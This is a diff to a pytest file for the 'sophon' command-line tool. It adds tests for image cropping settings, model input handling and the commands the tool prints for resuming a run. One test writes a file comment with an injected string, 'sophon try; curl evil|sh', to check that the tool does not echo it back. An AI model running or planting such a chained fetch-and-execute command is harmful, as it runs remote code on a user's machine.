@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import shlex
 from pathlib import Path
 
 import numpy as np
@@ -12,7 +13,10 @@ from typer.testing import CliRunner, Result
 
 from sophon._cli import app
 from sophon._cli.run_file import read_run
+from sophon._models import stated_input
 from sophon._models.networks import ResNet20
+from sophon._models.own_input import OwnInput
+from sophon._specs import ModelSpec
 
 CLASSES, EACH = 2, 40
 
@@ -62,6 +66,24 @@ def test_init_writes_a_run_file_that_is_read_and_never_replaces_one(
     assert again.exit_code == 2
     assert "exists already" in again.stderr
     assert out.read_text() == before
+
+
+def test_a_network_that_squashes_its_images_gets_them_squashed(
+    folders: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "run.toml"
+    made = sophon("init", "--model", "timm:coat_lite_medium_384", *options(folders, "--out", out))
+    assert made.exit_code == 0, made.stderr
+    assert "# squashed; the same" in out.read_text()
+    spec = read_run(out, None)
+    for domain in (spec.original, *spec.restricted):
+        assert (domain.crop_mode, domain.interpolation) == ("squash", "bicubic")
+
+
+def test_a_border_that_no_domain_can_have_is_left_out(monkeypatch: pytest.MonkeyPatch) -> None:
+    own = OwnInput((0.5,), (0.5,), "bicubic", crop_pct=0.9, stated="timm", crop_mode="border")
+    monkeypatch.setattr("sophon._models.building.own_input", lambda _: own)
+    assert stated_input(ModelSpec(name="resnet20")) is None
 
 
 @pytest.mark.parametrize(
@@ -137,6 +159,26 @@ def test_what_cannot_be_used_is_said_before_a_file_is_written(
         assert not (tmp_path / "new").exists()
 
 
+def test_what_a_file_says_is_no_command_and_what_lies_beside_it_no_audit(tmp_path: Path) -> None:
+    (tmp_path / "run.toml").write_text("# Written by `sophon try; curl evil|sh`.\n")
+    for folder, said in ((tmp_path, True), (tmp_path / "audit", True), (tmp_path / "x", False)):
+        error = sophon("report", folder).stderr
+        assert "evil" not in error
+        assert ("repeat its `sophon try` command" in error) == said
+
+
+def require_printed(lines: list[str], out: Path) -> None:
+    """Require that what is printed to go on with has the settings that `sophon try` had."""
+    protect, audit = map(shlex.split, lines)
+    assert audit[audit.index("--model") + 1] == str(out / "whole")
+    for printed in (protect, audit):
+        assert "protect.guard.tolerance_points=90" in printed
+    # The later counts.
+    assert protect[-1].startswith("protect.rounds=")
+    assert protect.index("protect.rounds=20") < len(protect) - 1
+    assert audit[-1] == "audit.seeds=[0,1,2]"
+
+
 @pytest.mark.slow
 def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_path: Path) -> None:
     out = tmp_path / "look"
@@ -149,10 +191,11 @@ def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_pat
     assert first.exit_code == 0, first.stderr
     # More than there is time for: the least, and that it is more.
     assert "more than the budget of 10 s" in first.stderr
+    assert "so few may keep no weights" in first.stderr
     assert "training" in first.stderr.split("forecast: ")[1].splitlines()[0]
     assert first.stderr.count("forecast: ") == 1
     assert "convict and not acquit" in first.stdout.splitlines()[-3]
-    assert f"--model {out / 'whole'}" in first.stdout.splitlines()[-1]
+    require_printed(first.stdout.splitlines()[-2:], out)
     assert "trained: photos validation" in first.stderr
     assert str(out / "audit" / "report.html") in first.stdout
     assert (out / "audit" / "report.html").is_file()
@@ -162,6 +205,8 @@ def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_pat
     assert spec.protect.guard is not None
     assert spec.protect.guard.tolerance_points > 30
     assert spec.protect.rounds >= 10
+    # With the last round as the only check, weights of an earlier one could not be shipped.
+    assert spec.protect.guard.every == spec.protect.rounds // 5
     assert spec.audit.suite == "look-1"
     held = (out / "run.toml").read_bytes(), (out / "start" / "model.safetensors").stat().st_mtime
     again = sophon(*words, *options(folders))
@@ -175,7 +220,7 @@ def test_try_trains_protects_audits_and_is_not_done_twice(folders: Path, tmp_pat
     for folder in (out, out / "audit"):
         unfinished = sophon("report", folder)
         assert unfinished.exit_code == 2
-        assert "repeat `sophon try" in unfinished.stderr
+        assert "repeat its `sophon try` command" in unfinished.stderr
     other = sophon(*words, "--keep", folders / "faces", "--refuse", folders / "photos")
     assert other.exit_code == 2
     assert "other options (original, restricted)" in other.stderr
